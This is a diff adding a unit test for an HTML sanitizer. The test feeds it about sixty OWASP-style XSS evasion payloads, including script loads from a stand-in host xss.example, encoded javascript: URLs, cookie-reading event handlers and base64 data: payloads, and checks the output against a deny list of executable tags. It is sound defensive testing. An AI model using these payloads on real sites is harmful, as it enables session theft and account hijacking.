@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include <regex>
+
 #include <string>
 
 namespace broadsheet::ingest {
@@ -97,6 +99,94 @@ constexpr Case kCases[] = {
     {"document after text", "<p>intro</p><html><head><title>T</title></head><body><p>more</p>",
      "<p>intro</p><p>more</p>"},
 };
+
+// Filter-evasion vectors in the style of the OWASP XSS cheat sheet. Whatever comes out
+// must carry nothing a browser would run.
+constexpr const char* kXssVectors[] = {
+    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<a onmouseover=alert(document.cookie)>xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
+    "<SCRIPT SRC=//xss.example/.j>",
+    "<IMG SRC=\"javascript:alert('XSS')\"",
+    "<iframe src=http://xss.example/scriptlet.html <",
+    "\\\";alert('XSS');//",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    "<BR SIZE=\"&{alert('XSS')}\">",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<template><script>alert(1)</script></template>",
+    "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
+    "<a href=\"java\\0script:alert(1)\">x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<base href=\"javascript:alert(1)//\">",
+    "<isindex type=image src=1 onerror=alert(1)>",
+};
+
+TEST(SanitizeHtmlTest, RemovesEverythingExecutableFromFilterEvasionVectors) {
+    static_assert(std::size(kXssVectors) >= 50);
+    const std::regex kEventAttribute(R"re(<[^>]*\son[a-z]+\s*=)re", std::regex::icase);
+    for (const char* vector : kXssVectors) {
+        std::string html = SanitizeHtml(vector).html;
+        std::string lower = html;
+        for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+        for (const char* banned : {"<script", "javascript:", "vbscript:", "data:", "<iframe", "<frame", "<object",
+                                   "<embed", "<svg", "<math", "<style", "style=", "<link", "<meta", "<base",
+                                   "<form", "<input", "<button", "expression(", "<template", "<noscript",
+                                   "<body", "<bgsound", "dynsrc", "lowsrc", "background="}) {
+            EXPECT_EQ(lower.find(banned), std::string::npos) << vector << "\n -> " << html << "\n has " << banned;
+        }
+        EXPECT_FALSE(std::regex_search(html, kEventAttribute)) << vector << "\n -> " << html;
+        EXPECT_EQ(SanitizeHtml(html).html, html) << "not stable: " << vector;
+    }
+}
 
 TEST(SanitizeHtmlTest, Vectors) {
     for (const Case& c : kCases) {
